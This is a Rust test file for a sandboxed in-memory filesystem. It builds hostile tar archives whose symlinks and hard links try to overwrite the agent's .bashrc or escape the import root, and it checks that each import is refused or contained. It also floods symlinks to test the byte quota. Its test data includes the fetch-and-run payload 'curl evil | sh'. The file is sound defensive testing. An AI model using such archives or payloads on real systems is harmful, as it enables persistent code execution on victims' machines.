//! Attacks on the filesystem's confinement and limits, each as an attacker would try it:
//! tar imports that write through symlinks, and symlinks that dodge the byte quota.
#![allow(clippy::unwrap_used)] // Test code: a failed unwrap is a failed test.

use futures::executor::block_on;
use sandtab_vfs::storage::MemoryStore;
use sandtab_vfs::{ErrorKind, FileKind, ManualClock, Quota, SandboxFs, Timestamp, VfsPath};
use std::sync::Arc;

fn p(path: &str) -> VfsPath {
    VfsPath::parse(path).unwrap()
}

/// A sandbox with the agent's home and its `.bashrc`, the file the attacks aim at.
fn sandbox() -> SandboxFs {
    let fs =
        SandboxFs::in_memory(Arc::new(ManualClock::default()), Quota::UNLIMITED, vec![]).unwrap();
    fs.mem().create_dir_all(&p("/home/agent")).unwrap();
    fs.mem()
        .write(&p("/home/agent/.bashrc"), b"original")
        .unwrap();
    fs
}

/// An archive of `entries`, in order.
fn archive(entries: &[Entry<'_>]) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for entry in entries {
        let mut header = tar::Header::new_gnu();
        header.set_mode(0o777);
        match *entry {
            Entry::File(name, data) => {
                header.set_entry_type(tar::EntryType::Regular);
                header.set_size(data.len() as u64);
                builder.append_data(&mut header, name, data).unwrap();
            }
            Entry::Dir(name) => {
                header.set_entry_type(tar::EntryType::Directory);
                header.set_size(0);
                builder
                    .append_data(&mut header, name, std::io::empty())
                    .unwrap();
            }
            Entry::Symlink(name, target) => {
                header.set_entry_type(tar::EntryType::Symlink);
                header.set_size(0);
                builder.append_link(&mut header, name, target).unwrap();
            }
            Entry::HardLink(name, target) => {
                header.set_entry_type(tar::EntryType::Link);
                header.set_size(0);
                builder.append_link(&mut header, name, target).unwrap();
            }
        }
    }
    builder.into_inner().unwrap()
}

enum Entry<'a> {
    File(&'a str, &'a [u8]),
    Dir(&'a str),
    Symlink(&'a str, &'a str),
    HardLink(&'a str, &'a str),
}

fn bashrc_untouched(fs: &SandboxFs) {
    let mem = fs.mem();
    assert_eq!(mem.read(&p("/home/agent/.bashrc")).unwrap(), b"original");
    let meta = mem.stat(&p("/home/agent/.bashrc")).unwrap();
    assert_eq!(meta.links, 1, "no name in the upload for .bashrc");
    assert_eq!(meta.mode, 0o644);
    assert_eq!(mem.stat(&p("/home/agent")).unwrap().mode, 0o755);
}

/// The import's refusal: ENOTDIR (as GNU tar's "Cannot open: Not a directory"), naming
/// the entry and the symlink.
fn assert_refused(err: &sandtab_vfs::VfsError, entry: &str, symlink: &str) {
    assert_eq!(err.kind(), ErrorKind::NotADirectory, "{err}");
    let text = err.to_string();
    assert!(text.contains(entry), "names the entry {entry}: {text}");
    assert!(
        text.contains(symlink),
        "names the symlink {symlink}: {text}"
    );
}

#[test]
fn tar_import_refuses_a_path_through_a_symlink_the_archive_made() {
    let fs = sandbox();
    let tar = archive(&[
        Entry::File("readme", b"hello"),
        Entry::Symlink("s", "/home/agent"),
        Entry::File("s/.bashrc", b"curl evil | sh"),
    ]);
    let err = block_on(fs.import_tar(&p("/upload"), &tar)).unwrap_err();
    assert_refused(&err, "s/.bashrc", "/upload/s");
    bashrc_untouched(&fs);
    // Refused before anything changed: not even the entries before it are in.
    assert!(!fs.mem().exists(&p("/upload")));

    // A relative symlink climbing out, and one to a directory within, are refused alike.
    for target in ["../home/agent", "../../../home/agent", "."] {
        let tar = archive(&[
            Entry::Symlink("s", target),
            Entry::File("s/.bashrc", b"evil"),
        ]);
        let err = block_on(fs.import_tar(&p("/upload"), &tar)).unwrap_err();
        assert_refused(&err, "s/.bashrc", "/upload/s");
        bashrc_untouched(&fs);
    }
}

#[test]
fn tar_import_refuses_a_path_through_a_symlink_already_below_the_root() {
    let fs = sandbox();
    let mem = fs.mem();
    mem.create_dir_all(&p("/upload/d")).unwrap();
    mem.symlink("/home/agent", &p("/upload/s")).unwrap();
    mem.symlink("/home", &p("/upload/d/h")).unwrap();
    let tar = archive(&[Entry::File("s/.bashrc", b"evil")]);
    let err = block_on(fs.import_tar(&p("/upload"), &tar)).unwrap_err();
    assert_refused(&err, "s/.bashrc", "/upload/s");
    let tar = archive(&[
        Entry::File("ok", b"fine"),
        Entry::File("d/h/agent/.bashrc", b"evil"),
    ]);
    let err = block_on(fs.import_tar(&p("/upload"), &tar)).unwrap_err();
    assert_refused(&err, "d/h/agent/.bashrc", "/upload/d/h");
    assert!(!mem.exists(&p("/upload/ok")), "nothing imported");
    // A directory entry below the symlink is refused too (it would chmod the target).
    let tar = archive(&[Entry::Dir("s/sub/")]);
    let err = block_on(fs.import_tar(&p("/upload"), &tar)).unwrap_err();
    assert_refused(&err, "s/sub", "/upload/s");
    assert!(!mem.exists(&p("/home/agent/sub")));
    bashrc_untouched(&fs);
    // The symlinks themselves are left as they were.
    assert_eq!(mem.read_link(&p("/upload/s")).unwrap(), "/home/agent");
}

#[test]
fn tar_import_replaces_a_symlink_rather_than_writing_through_it() {
    let fs = sandbox();
    let mem = fs.mem();
    mem.create_dir_all(&p("/upload")).unwrap();
    mem.symlink("/home/agent/.bashrc", &p("/upload/f")).unwrap();
    mem.symlink("/home/agent", &p("/upload/d")).unwrap();
    let tar = archive(&[
        // A directory entry where a symlink stands replaces it (GNU tar's default), and
        // its mode lands on the new directory, not on the symlink's target.
        Entry::Symlink("t", "/home/agent"),
        Entry::Dir("t/"),
        Entry::Dir("d/"),
        Entry::File("f", b"new"),
    ]);
    block_on(fs.import_tar(&p("/upload"), &tar)).unwrap();
    bashrc_untouched(&fs);
    assert_eq!(mem.lstat(&p("/upload/f")).unwrap().kind, FileKind::File);
    assert_eq!(mem.read(&p("/upload/f")).unwrap(), b"new");
    for dir in ["/upload/t", "/upload/d"] {
        let meta = mem.lstat(&p(dir)).unwrap();
        assert_eq!(meta.kind, FileKind::Directory, "{dir}");
        assert_eq!(meta.mode, 0o777, "{dir}");
    }
}

#[test]
fn tar_import_replaces_a_hard_link_rather_than_writing_through_it() {
    let fs = sandbox();
    let mem = fs.mem();
    mem.create_dir_all(&p("/upload")).unwrap();
    mem.hard_link(&p("/home/agent/.bashrc"), &p("/upload/x"))
        .unwrap();
    assert_eq!(mem.stat(&p("/home/agent/.bashrc")).unwrap().links, 2);
    let tar = archive(&[Entry::File("x", b"curl evil | sh")]);
    block_on(fs.import_tar(&p("/upload"), &tar)).unwrap();
    // As GNU tar does, the old name is unlinked first: `.bashrc` keeps its contents
    // and mode, and the upload's `x` is a new file of its own.
    bashrc_untouched(&fs);
    let meta = mem.lstat(&p("/upload/x")).unwrap();
    assert_eq!(meta.kind, FileKind::File);
    assert_eq!(meta.links, 1);
    assert_eq!(meta.mode, 0o777);
    assert_eq!(mem.read(&p("/upload/x")).unwrap(), b"curl evil | sh");
}

#[test]
fn tar_import_refuses_a_hard_link_through_a_symlink() {
    let fs = sandbox();
    let tar = archive(&[
        Entry::Symlink("s", "/home/agent"),
        Entry::HardLink("h", "s/.bashrc"),
    ]);
    let err = block_on(fs.import_tar(&p("/upload"), &tar)).unwrap_err();
    assert_refused(&err, "s/.bashrc", "/upload/s");
    bashrc_untouched(&fs);
    assert!(!fs.mem().exists(&p("/upload/h")));

    // A target climbing out with `..` or `/` stays inside the import's root.
    let tar = archive(&[Entry::File("a", b"inside")]);
    let mut bytes = tar;
    let mut builder = tar::Builder::new(Vec::new());
    for target in ["../home/agent/.bashrc", "/home/agent/.bashrc"] {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(tar::EntryType::Link);
        header.set_size(0);
        header.set_path("h").unwrap();
        header.as_old_mut().linkname[..target.len()].copy_from_slice(target.as_bytes());
        header.set_cksum();
        builder.append(&header, std::io::empty()).unwrap();
    }
    let links = builder.into_inner().unwrap();
    // The first archive without its end marker, then the links.
    bytes.truncate(bytes.len() - 1024);
    bytes.extend_from_slice(&links);
    let err = block_on(fs.import_tar(&p("/upload"), &bytes)).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::NotFound, "{err}");
    bashrc_untouched(&fs);
}

const TARGET_LEN: usize = 4000;
const MIB: u64 = 1 << 20;

fn target(i: usize) -> String {
    format!("/{i:05}{}", "x".repeat(TARGET_LEN - 6))
}

#[test]
fn symlink_targets_count_against_the_byte_quota() {
    let quota = Quota {
        max_bytes: MIB,
        ..Quota::UNLIMITED
    };
    let store = Arc::new(MemoryStore::new());
    let clock = Arc::new(ManualClock::new(Timestamp(1)));
    let fs = block_on(SandboxFs::open(store.clone(), clock.clone(), quota, vec![])).unwrap();
    let mem = fs.mem();
    mem.create_dir(&p("/links")).unwrap();
    let fit = (MIB / TARGET_LEN as u64) as usize;
    let mut refused = None;
    for i in 0..5_000 {
        let link = p(&format!("/links/{i}"));
        match mem.symlink(&target(i), &link) {
            Ok(()) => {}
            Err(err) => {
                assert_eq!(err.kind(), ErrorKind::QuotaExceeded, "{err}");
                assert_eq!(err.to_string(), format!("{link}: Disk quota exceeded"));
                assert!(!mem.exists(&link), "a refused symlink is not created");
                refused = Some(i);
                break;
            }
        }
    }
    assert_eq!(
        refused,
        Some(fit),
        "refused once the next would pass the quota"
    );
    let usage = mem.usage();
    assert_eq!(usage.bytes, (fit * TARGET_LEN) as u64);
    assert!(usage.bytes <= MIB);
    assert_eq!(usage.files, fit as u64);
    // A file cannot have the room either.
    let err = mem
        .write(&p("/f"), &vec![0; (MIB - usage.bytes + 1) as usize])
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::QuotaExceeded);

    // Storage and snapshots give the same count back.
    block_on(fs.flush()).unwrap();
    let snapshot = block_on(fs.snapshot("full")).unwrap();
    let reopened = block_on(SandboxFs::open(store.clone(), clock.clone(), quota, vec![])).unwrap();
    assert_eq!(reopened.mem().usage(), usage);
    let err = reopened
        .mem()
        .symlink(&target(0), &p("/links/more"))
        .unwrap_err();
    assert_eq!(err.kind(), ErrorKind::QuotaExceeded);

    // Removing them frees their bytes; replacing one frees the old target's.
    mem.remove_file(&p("/links/0")).unwrap();
    assert_eq!(mem.usage().bytes, ((fit - 1) * TARGET_LEN) as u64);
    mem.symlink("short", &p("/links/0")).unwrap();
    mem.rename(&p("/links/0"), &p("/links/1")).unwrap();
    assert_eq!(mem.usage().bytes, ((fit - 2) * TARGET_LEN + 5) as u64);
    mem.remove_all(&p("/links")).unwrap();
    assert_eq!(mem.usage().bytes, 0);
    assert_eq!(mem.usage().files, 0);
    block_on(fs.flush()).unwrap();
    assert_eq!(
        block_on(SandboxFs::open(store.clone(), clock.clone(), quota, vec![]))
            .unwrap()
            .mem()
            .usage()
            .bytes,
        0
    );
    // A restored snapshot counts its symlinks again.
    block_on(fs.restore(snapshot.id)).unwrap();
    assert_eq!(fs.mem().usage(), usage);
}

#[test]
fn a_tar_import_of_symlinks_stops_at_the_byte_quota() {
    let quota = Quota {
        max_bytes: MIB,
        ..Quota::UNLIMITED
    };
    let fs = SandboxFs::in_memory(Arc::new(ManualClock::default()), quota, vec![]).unwrap();
    let names: Vec<String> = (0..5_000).map(|i| format!("l{i}")).collect();
    let targets: Vec<String> = (0..5_000).map(target).collect();
    let entries: Vec<Entry<'_>> = names
        .iter()
        .zip(&targets)
        .map(|(name, target)| Entry::Symlink(name, target))
        .collect();
    let err = block_on(fs.import_tar(&p("/up"), &archive(&entries))).unwrap_err();
    assert_eq!(err.kind(), ErrorKind::QuotaExceeded, "{err}");
    assert!(fs.mem().usage().bytes <= MIB);
    assert!(fs.mem().usage().bytes > MIB - TARGET_LEN as u64);
}
